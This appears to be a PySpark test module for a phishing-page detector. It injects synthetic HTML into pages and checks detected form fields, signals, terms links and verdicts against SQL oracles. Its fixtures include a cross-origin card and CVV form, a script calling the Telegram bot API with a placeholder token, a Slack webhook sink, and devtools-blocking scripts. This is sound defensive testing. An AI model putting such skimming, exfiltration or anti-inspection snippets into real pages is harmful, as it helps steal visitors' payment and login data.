"""Forms, signals, links and verdicts of pages.

The given pages hold no forms, no sinks and no links to terms.  So every page gets, at its end, one of a few endings by
its number, with addresses of its own host: what is judged is as many pages as the table has, with their own scripts
and links.
"""

from __future__ import annotations

from pyspark.sql import functions as F

from ..functions import html as H
from ..functions import text as T
from ..functions import urls as U
from ..operators import pages as P
from ..operators import rules as R
from .store import table

TOKEN = "123456789:ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghi"
#: Endings by number; {host} stands for the page's host.
ENDINGS = (
    "",
    "<form action='/subscribe' method='POST'><label for='mail'>E-mail</label><input type='email' id='mail' name='mail' required><button> Sign  up </button></form>"
    "<footer><a href='/disclaimer'>Disclaimer</a> <a href='/legal/terms?from=foot'>Terms of use</a> <a href='https://other.example.org/terms'>Terms</a></footer>",
    "<form action='https://collect.example.edu/in'><input name='cardnumber' autocomplete='CC-Number' aria-label='Card number'><label>Code <input name='cvv'></label><input type='submit' value='Pay now'></form>",
    "<p>User</p><input id='u'><input type='PASSWORD' name='pw' placeholder='Password'><a role='button'>Log in</a><p><a href='//{host}/tos#top'>Rules</a></p>",
    f"<script>fetch('https://api.telegram.org/bot{TOKEN}/sendMessage'); fetch('https://cdn.example.edu/x.js')</script>",
    "<script src='https://hooks.slack.com/services/T0/B0'></script><script>setInterval(function () {{ debugger }}, 50)</script><div oncontextmenu='return false'></div>",
    "<form><input name='full_name'><span id='b'>Date of birth</span><input aria-labelledby='b' name='d'><textarea name='street_address'></textarea></form><script type='application/ld+json'>https://data.example.edu/</script>",
    "<form><input name='iban'><select name='country'><option>x</option></select></form><script>document.onkeydown = e => e.keyCode === 123</script><footer><a href='/x'>Privacy</a></footer>",
)


def ended(spark, sf_dir):
    """page_id, url and html of the pages with their endings."""
    ending = F.element_at(F.array(*[F.lit(e.replace("{{", "{").replace("}}", "}")) for e in ENDINGS]), (F.pmod("page_id", F.lit(len(ENDINGS))) + 1).cast("int"))
    host = F.coalesce(U.host(F.col("url")), F.lit(""))
    return table(spark, sf_dir, "pages").select("page_id", "url", F.concat(F.coalesce("html", F.lit("")), F.replace(ending, F.lit("{host}"), host)).alias("html"))


def page_form_fields(spark, sf_dir):
    """Every field of every form, with the form's target and what its button says."""
    _, forms, fields = P.form_tables(P.walked(ended(spark, sf_dir)))
    named = forms.select("page", "form", "action_origin", "method", "submit_text")
    # A form has its fields in the same row of the walk; both tables come from one page each.
    return fields.join(named, ["page", "form"]).select(F.col("page").alias("page_id"), *[F.col(c).cast("long").alias(c) for c in ("form", "place")], "action_origin", "method", "submit_text", "type", "name", "autocomplete", "placeholder", "label", "required")


def page_signals(spark, sf_dir):
    """Hosts, sinks, blocks and icons of every page."""
    listed = lambda c: F.array_join(c, ",").alias(c)
    rows = P.signal_table(P.walked(ended(spark, sf_dir)))
    return rows.select(F.col("page").alias("page_id"), "hostname", "sensitive", listed("referenced_hosts"), listed("exfil_sinks"), listed("devtools_blocks"), listed("icon_urls"))


def page_links(spark, sf_dir):
    """Every link of the given pages."""
    p = P.walked(table(spark, sf_dir, "pages")).select("page", F.posexplode(P.links(F.col("p"), F.col("url"))).alias("place", "link"))
    return p.select(F.col("page").alias("page_id"), F.col("place").cast("long").alias("place"), "link.href", "link.target", "link.said", "link.footer")


def terms_candidates(spark, sf_dir):
    """Where each page's terms may lie, best first."""
    rows = P.terms_candidates(P.walked(ended(spark, sf_dir)))
    return rows.select(F.col("page").alias("page_id"), F.col("place").cast("long").alias("place"), "address", "linked")


def terms_found(spark, sf_dir):
    """The first candidate that reads like terms: the answer to an address is a page of the table, chosen by its hash."""
    pages = P.walked(ended(spark, sf_dir))
    asked = P.terms_candidates(pages).select("address").distinct()
    answers = table(spark, sf_dir, "pages").select("page_id", H.read(F.col("html")).alias("p"))
    # A page of a single law's worth of cues stands for terms: two kinds of text are made of each page's own.
    answers = answers.select("page_id", H.main_text(F.col("p")).alias("text"), F.col("p.scripts").alias("scripts"))
    answers = answers.select("page_id", F.length("text").alias("chars"), "scripts", F.when(F.col("page_id") % 3 == 0, 4).otherwise(T.legal_cues(F.col("text"))).alias("cues"))
    many = F.lit(answers.count())
    number = F.pmod(F.crc32("address"), F.greatest(many, F.lit(1)))
    fetched = asked.withColumn("page_id", number).join(answers, "page_id")
    fetched = fetched.withColumn("status", F.when(number % 5 == 1, 404).otherwise(200)).withColumn("kind", F.when(number % 7 == 2, "application/pdf").otherwise("text/html"))
    rows = P.terms_found(pages, fetched)
    reasons = F.array_join(F.transform("failures", lambda f: f["reason"]), ",")
    return rows.select(F.col("page").alias("page_id"), "address", F.col("place").cast("long").alias("place"), F.col("tried").cast("long").alias("tried"), reasons.alias("reasons"))


def pages_without_terms(spark, sf_dir):
    """Pages that ask for details and link no policy."""
    p, url = F.col("p"), F.col("url")
    rows = P.walked(ended(spark, sf_dir))
    return rows.where(P.publishes_no_terms(p, url, P.page_forms(p, url), P.links(p, url))).select(F.col("page").alias("page_id"))


def pages_judged(spark, sf_dir):
    """The verdict on every page: its forms and signals go through the rules.  Form -1: the page by itself."""
    pages = P.walked(ended(spark, sf_dir))
    contexts, forms, fields = P.form_tables(pages)
    hits = R.page_hits(P.signal_table(pages))
    none = spark.createDataFrame([], "domain string")
    scored = R.forms_scored(forms, fields, contexts, none, spark.createDataFrame([], "host string"), hits)
    rows = R.pages_assessed(scored, hits)
    return rows.select(F.col("page").alias("page_id"), F.coalesce(F.col("form").cast("long"), F.lit(-1)).alias("form"), F.col("score").cast("long").alias("score"), F.array_join(F.transform("hits", lambda h: h["id"]), ",").alias("hits"), "verdict")


#: Brands of the icons that pages show, by the first hex digit of the md5 of the host; the other icons are no brand's.
ICON_BRANDS = {"example.net": "01234567", "example.org": "89ab"}


def pages_told(spark, sf_dir):
    """What a reader is told of every page, its icon known: every host shows one of 16 icons, a sixteenth of them cannot be read."""
    pages = P.walked(ended(spark, sf_dir))
    contexts, forms, fields = P.form_tables(pages)
    icon = lambda digit: F.substring(F.md5(F.concat(F.lit("icon "), digit).cast("binary")), 1, 16)
    url = table(spark, sf_dir, "pages").select("url", U.host(F.col("url")).alias("host")).where("host is not null")
    digits = F.md5(F.col("host").cast("binary"))
    icons = url.select(F.concat(U.origin(F.col("url")), F.lit("/favicon.ico")).alias("url"), F.when(F.substr(digits, F.lit(2), F.lit(1)) != "0", icon(F.substr(digits, F.lit(1), F.lit(1)))).alias("hash")).distinct()
    known = spark.createDataFrame([(b, d) for b, ds in ICON_BRANDS.items() for d in ds], "brand string, digit string").select("brand", icon(F.col("digit")).alias("hash"))
    found = R.form_hits(forms, fields, contexts, known.select(F.col("brand").alias("domain")), spark.createDataFrame([], "host string"))
    rows = R.assessed(P.signal_table(pages), found, icons, known)
    return rows.select(F.col("page").alias("page_id"), F.coalesce(F.col("form").cast("long"), F.lit(-1)).alias("form"), F.col("score").cast("long").alias("score"), F.array_join(F.transform("hits", lambda h: h["id"]), ",").alias("hits"), "verdict", "asked")


QUERIES = {f.__name__: f for f in (page_form_fields, page_signals, page_links, terms_candidates, terms_found, pages_without_terms, pages_judged, pages_told)}

#: Parts of an address, for SQL.
PARTS = r"""
    p as (
      select page_id, html, page_id % 8 as kind, regexp_extract(url, '^([A-Za-z][A-Za-z0-9+.-]*)://(?:[^/?#@]*@)?([^/?#:]*)(?::(\d*))?([^?#]*)', ['s', 'h', 'p', 'path']) as x from pages
    ), q as (
      select page_id, html, kind, lower(x.s) as scheme, lower(x.h) as host, lower(x.s) || '://' || lower(x.h) || case when x.p = '' then '' else ':' || x.p end as origin, case when x.path = '' then '/' else x.path end as path from p
    )
"""
ORACLES = {
    "page_form_fields": f"""
        with {PARTS}, f(kind, form, place, action_origin, method, submit_text, type, name, autocomplete, placeholder, label, required) as (values
          (1, 0, 0, null, 'post', 'Sign up', 'email', 'mail', '', '', 'E-mail', true),
          (2, 0, 0, 'https://collect.example.edu', 'get', 'Pay now', 'text', 'cardnumber', 'cc-number', '', 'Card number', false),
          (2, 0, 1, 'https://collect.example.edu', 'get', 'Pay now', 'text', 'cvv', '', '', 'Code', false),
          (3, 0, 0, null, '', 'Log in', 'text', '', '', '', 'User', false),
          (3, 0, 1, null, '', 'Log in', 'password', 'pw', '', 'Password', '', false),
          (6, 0, 0, null, 'get', '', 'text', 'full_name', '', '', '', false),
          (6, 0, 1, null, 'get', '', 'text', 'd', '', '', 'Date of birth', false),
          (6, 0, 2, null, 'get', '', 'textarea', 'street_address', '', '', '', false),
          (7, 0, 0, null, 'get', '', 'text', 'iban', '', '', '', false),
          (7, 0, 1, null, 'get', '', 'select', 'country', '', '', '', false))
        select page_id, cast(form as bigint) as form, cast(place as bigint) as place, action_origin, method, submit_text, type, name, autocomplete, placeholder, label, required from q join f using (kind)
    """,
    "page_signals": f"""
        with {PARTS}
        select page_id, nullif(host, '') as hostname, kind in (2, 3, 7) as sensitive,
          case kind when 4 then 'api.telegram.org,cdn.example.edu' when 5 then 'hooks.slack.com' else '' end as referenced_hosts,
          case kind when 4 then 'telegram_bot_api,telegram_bot_token' when 5 then 'slack_webhook' else '' end as exfil_sinks,
          case kind when 5 then 'debugger_loop,contextmenu_block' when 7 then 'devtools_key_block' else '' end as devtools_blocks,
          case when host = '' then '' else origin || '/favicon.ico' end as icon_urls
        from q
    """,
    "page_links": f"""
        with {PARTS}, a as (select page_id, scheme, host, origin, unnest(regexp_extract_all(html, '<a href="([^"]*)">[^<]*</a>', 1)) as href, unnest(regexp_extract_all(html, '<a href="[^"]*">([^<]*)</a>', 1)) as said,
          unnest(range(len(regexp_extract_all(html, '<a href="[^"]*">[^<]*</a>')))) as place from q)
        select page_id, place, href, case when host = '' then null else origin || regexp_replace(href, '[?#].*$', '') end as target, said, false as footer from a
    """,
    "terms_candidates": f"""
        with {PARTS}, l as (
          select page_id, 0 as place, origin || '/legal/terms' as address from q where kind = 1 and host <> ''
          union all select page_id, 1, 'https://other.example.org/terms' from q where kind = 1 and host like '%example.org'
          union all select page_id, 2, origin || '/disclaimer' from q where kind = 1 and host <> ''
          union all select page_id, 0, scheme || '://' || host || '/tos' from q where kind = 3 and host <> ''
        ), g as (
          select page_id, 10 + i as place, origin || ['/terms', '/terms-of-service', '/terms-of-use', '/tos', '/legal/terms', '/policies/terms', '/terms-and-conditions', '/legal'][i + 1] as address from q, range(8) r(i) where host <> ''
        ), e as (select page_id, address, min(place) as place from (from l union all from g) group by all)
        select page_id, row_number() over (partition by page_id order by place) - 1 as place, address, place < 10 as linked from e
    """,
    "pages_without_terms": f"with {PARTS} select page_id from q where kind = 2 and host like '%.%' and not regexp_matches(path, '(?i)terms|privacy')",
    "pages_judged": f"""
        with {PARTS}, v(kind, form, score, hits, verdict) as (values
          (0, -1, 0, '', 'safe'), (1, 0, 0, '', 'safe'), (2, 0, 45, 'credit_card_fields,cross_origin_action', 'caution'), (3, 0, 0, '', 'safe'), (4, -1, 40, 'telegram_bot_token', 'danger'),
          (5, -1, 60, 'exfil_sink_endpoint,devtools_blocked', 'caution'), (6, 0, 15, 'identity_triplet', 'safe'), (7, 0, 50, 'devtools_blocked,bank_account_field', 'caution'), (8, 0, 30, 'password_over_http', 'caution'))
        select page_id, cast(form as bigint) as form, cast(score as bigint) as score, hits, verdict
        from (select page_id, case when kind = 3 and scheme <> 'https' then 8 else kind end as kind from q) join v using (kind)
    """,
    "pages_told": f"""
        with {PARTS}, v(kind, form, score, hits, verdict, asked) as (values
          (0, -1, 0, '', 'safe', false), (1, -1, 0, '', 'safe', false), (2, 0, 45, 'credit_card_fields,cross_origin_action', 'caution', true), (3, -1, 0, '', 'safe', false), (4, -1, 40, 'telegram_bot_token', 'danger', true),
          (5, -1, 60, 'exfil_sink_endpoint,devtools_blocked', 'caution', true), (6, -1, 0, '', 'safe', false), (7, 0, 50, 'devtools_blocked,bank_account_field', 'caution', true), (8, 0, 30, 'password_over_http', 'caution', true)
        ), w(kind, hits) as (values
          (2, 'favicon_brand_mismatch,credit_card_fields,cross_origin_action'), (4, 'telegram_bot_token,favicon_brand_mismatch'), (5, 'exfil_sink_endpoint,favicon_brand_mismatch,devtools_blocked'),
          (7, 'favicon_brand_mismatch,devtools_blocked,bank_account_field'), (8, 'favicon_brand_mismatch,password_over_http')
        ), b as (
          select page_id, case when kind = 3 and scheme <> 'https' then 8 else kind end as kind, regexp_extract(host, '[^.]*[.][^.]*$') as site,
            case when host = '' or md5(host)[2] = '0' then null {" ".join(f"when contains('{ds}', md5(host)[1]) then '{b}'" for b, ds in ICON_BRANDS.items())} end as brand
          from q
        ), m as (select b.*, v.form, v.score, v.hits, v.verdict, v.asked, w.hits as other, v.asked and coalesce(brand <> site, false) as shown, site in ({", ".join(f"'{b}'" for b in ICON_BRANDS)}) and form >= 0 as own from b join v using (kind) left join w using (kind))
        select page_id, cast(form as bigint) as form, cast(case when shown then score + 35 else score end as bigint) as score,
          case when shown then other || case when own then ',known_brand_domain' else '' end else hits end as hits,
          case when not shown then verdict when own then 'caution' else 'danger' end as verdict, asked
        from m
    """,
}
